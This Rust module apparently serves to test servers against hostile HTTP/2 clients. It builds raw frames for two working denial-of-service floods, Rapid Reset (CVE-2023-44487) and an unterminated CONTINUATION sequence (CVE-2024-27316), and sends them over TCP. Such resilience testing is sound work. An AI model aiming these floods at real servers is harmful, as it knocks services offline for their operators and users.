//! What hostile HTTP/2 clients send, frame by frame.

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
/// `:method GET`, `:scheme http`, `:path /`, `:authority a` (RFC 7541 appendix A).
const GET: &[u8] = &[0x82, 0x86, 0x84, 0x41, 0x01, b'a'];

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
    let mut bytes = length[1..].to_vec();
    bytes.extend([kind, flags]);
    bytes.extend(stream.to_be_bytes());
    bytes.extend(payload);
    bytes
}

fn opening() -> Vec<u8> {
    let mut bytes = PREFACE.to_vec();
    bytes.extend(frame(SETTINGS, 0, 0, &[]));
    bytes
}

/// Sends all of it, and returns when the peer has ended the connection.
async fn until_ended(io: &mut TcpStream, bytes: &[u8]) {
    let (mut from, mut to) = io.split();
    let mut answer = Vec::new();
    // It may be cut off before all of it is taken; a reset is an end as well.
    let _ = tokio::join!(to.write_all(bytes), from.read_to_end(&mut answer));
}

/// Requests that are reset at once (CVE-2023-44487).
pub async fn rapid_reset(io: &mut TcpStream) {
    let mut bytes = opening();
    for stream in (1..20_000).step_by(2) {
        bytes.extend(frame(HEADERS, END_STREAM | END_HEADERS, stream, GET));
        bytes.extend(frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes()));
    }
    until_ended(io, &bytes).await;
}

/// A list of fields without an end (CVE-2024-27316).
pub async fn continuation(io: &mut TcpStream) {
    let mut bytes = opening();
    bytes.extend(frame(HEADERS, END_STREAM, 1, GET));
    // A literal field that is not indexed: x: y.
    let fields = [0x00, 0x01, b'x', 0x01, b'y'].repeat(200);
    for _ in 0..5_000 {
        bytes.extend(frame(CONTINUATION, 0, 1, &fields));
    }
    until_ended(io, &bytes).await;
}
